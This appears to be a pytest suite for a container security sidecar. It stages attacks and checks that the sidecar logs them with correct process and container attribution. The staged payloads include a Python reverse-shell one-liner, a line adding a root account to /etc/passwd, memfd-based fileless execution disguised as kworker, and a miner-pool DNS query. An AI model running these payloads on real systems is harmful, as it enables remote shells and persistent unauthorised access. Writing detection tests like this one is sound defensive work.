"""The real sidecar in the emulated task, all sources on: what a staged attack leaves in --events-out.

The collectors have their own detailed tests; these check that the running
agent wires them, attributes their events to the right container and process,
and that benign look-alikes stay quiet.
"""

from __future__ import annotations

import contextlib
import socket
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

from dns_responder import DnsResponder
from taskenv import SidecarHandle, TaskEnv

PY = "/usr/bin/python3"  # the containers' /usr is the host's, read-only


def start(task: TaskEnv, tmp_path: Path) -> SidecarHandle:
    sidecar = task.start_sidecar(["run", "--events-out", str(tmp_path / "events.jsonl")])
    sidecar.wait_for_event(lambda e: e["kind"] == "process.exec", timeout=20)
    # the other sources start with the agent; give their first pass a moment
    time.sleep(1.5)
    return sidecar


def kind(sidecar: SidecarHandle, k: str) -> list[dict[str, Any]]:
    return [e for e in sidecar.events() if e["kind"] == k]


@contextlib.contextmanager
def listener() -> Iterator[tuple[socket.socket, int]]:
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(4)
    try:
        yield srv, srv.getsockname()[1]
    finally:
        srv.close()


def test_reverse_shell_and_a_benign_shell(task_env: TaskEnv, tmp_path: Path) -> None:
    sidecar = start(task_env, tmp_path)
    with listener() as (srv, port):
        code = (
            f"import os, socket; s = socket.create_connection(('127.0.0.1', {port})); "
            "[os.dup2(s.fileno(), f) for f in (0, 1, 2)]; os.execv('/bin/sh', ['sh', '-i'])"
        )
        shell_pid = task_env.spawn("app", [PY, "-c", code])
        conn, _ = srv.accept()
        with conn:
            conn.sendall(b"sleep 3\n")
            ev = sidecar.wait_for_event(lambda e: e["kind"] == "process.stdio_socket", timeout=15)
            p = ev["process"]
            assert p["pid"] == shell_pid and p["executablePath"] in ("/bin/dash", "/usr/bin/dash")
            assert p["containerName"] == "app"
            blob = str(ev)
            assert str(port) in blob and "127.0.0.1" in blob
            connect = sidecar.wait_for_event(
                lambda e: e["kind"] == "net.connect" and e.get("remotePort") == port, timeout=10
            )
            assert connect["process"] is not None and connect["process"]["containerName"] == "app"
            # benign: a shell reading a pipe, a client connection from a non-shell
            task_env.run("app", ["sh", "-c", "echo 'sleep 1' | sh"])
            client = f"import socket, time; s = socket.create_connection(('127.0.0.1', {port})); time.sleep(1)"
            task_env.run("worker", [PY, "-c", client])
            srv.accept()[0].close()
            time.sleep(1.5)
    stdio = kind(sidecar, "process.stdio_socket")
    assert {e["process"]["pid"] for e in stdio} == {shell_pid}
    assert sidecar.stop() == 0


def test_sensitive_file_and_fileless_exec(task_env: TaskEnv, tmp_path: Path) -> None:
    sidecar = start(task_env, tmp_path)
    task_env.run("app", ["sh", "-c", "exec 3>>/etc/passwd; echo 'evil:x:0:0::/root:/bin/sh' >&3; sleep 0.5"])
    ev = sidecar.wait_for_event(lambda e: e["kind"] == "file.modify" and e.get("filePath") == "/etc/passwd", timeout=15)
    assert ev["process"] is not None and ev["process"]["containerName"] == "app"
    # benign: reading it
    task_env.run("worker", ["cat", "/etc/passwd"])
    memfd = (
        "import os; fd = os.memfd_create('payload'); os.write(fd, open('/bin/sleep', 'rb').read()); "
        "os.execv('/proc/self/fd/%d' % fd, ['kworker', '3'])"
    )
    pid = task_env.spawn("worker", [PY, "-c", memfd])
    fl = sidecar.wait_for_event(lambda e: e["kind"] == "proc.fileless", timeout=15)
    assert fl["process"]["pid"] == pid and fl["process"]["containerName"] == "worker"
    time.sleep(1.5)
    assert not [e for e in kind(sidecar, "file.modify") if e["process"] and e["process"]["containerName"] == "worker"]
    assert len(kind(sidecar, "proc.fileless")) == 1
    assert sidecar.stop() == 0


def test_dns_query_is_seen_with_its_answer_and_process(task_env: TaskEnv, tmp_path: Path) -> None:
    with DnsResponder("127.0.0.77"):
        sidecar = start(task_env, tmp_path)
        query = (
            "import socket, struct, time; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); "
            "name = b''.join(bytes([len(p)]) + p for p in b'pool.example-miner.test'.split(b'.')) + b'\\0'; "
            "s.sendto(struct.pack('>HHHHHH', 4660, 256, 1, 0, 0, 0) + name + struct.pack('>HH', 1, 1), "
            "('127.0.0.77', 53)); s.recv(512); time.sleep(1)"
        )
        task_env.run("app", [PY, "-c", query])
        q = sidecar.wait_for_event(lambda e: e["kind"] == "dns.query", timeout=15)
        assert q.get("queryName", "").rstrip(".") == "pool.example-miner.test"
        r = sidecar.wait_for_event(lambda e: e["kind"] == "dns.response", timeout=15)
        assert "10.11.12.13" in str(r.get("answers"))
        if q["process"] is not None:  # attribution is best effort (the socket may be closed already)
            assert q["process"]["containerName"] == "app"
        assert sidecar.stop() == 0
